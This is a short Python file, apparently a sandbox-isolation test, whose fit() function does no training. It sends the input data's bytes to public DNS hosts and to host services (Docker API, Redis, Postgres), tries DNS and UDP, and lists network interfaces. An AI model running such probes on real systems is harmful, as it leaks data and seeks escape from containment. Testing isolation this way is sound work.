# Attack: phone home, resolve names, reach the host's services (Redis, Postgres, the Docker API on the
# bridge gateway, the web app) and list the network interfaces.
import socket

TARGETS = [("1.1.1.1", 80), ("8.8.8.8", 53), ("172.17.0.1", 2375), ("172.17.0.1", 6379), ("10.0.2.2", 80),
           ("127.0.0.1", 6379), ("127.0.0.1", 5432), ("127.0.0.1", 8000), ("::1", 6379)]


def fit(x, y, *, seed, max_seconds):
    for host, port in TARGETS:
        try:
            socket.create_connection((host, port), timeout=2).sendall(x.numpy().tobytes())
            print(f"REACHED {host}:{port}")
        except OSError as exc:
            print(f"blocked {host}:{port}: {exc}")
    try:
        print(f"RESOLVED example.org: {socket.getaddrinfo('example.org', 443)}")
    except OSError as exc:
        print(f"dns blocked: {exc}")
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03org\x00\x00\x01\x00\x01",
                   ("8.8.8.8", 53))
        print("REACHED udp 8.8.8.8:53")
    except OSError as exc:
        print(f"udp blocked: {exc}")
    with open("/proc/net/dev") as f:
        names = sorted(line.split(":")[0].strip() for line in f.readlines()[2:])
    print(f"INTERFACES {names}")
    raise RuntimeError("this submission only probes the network")
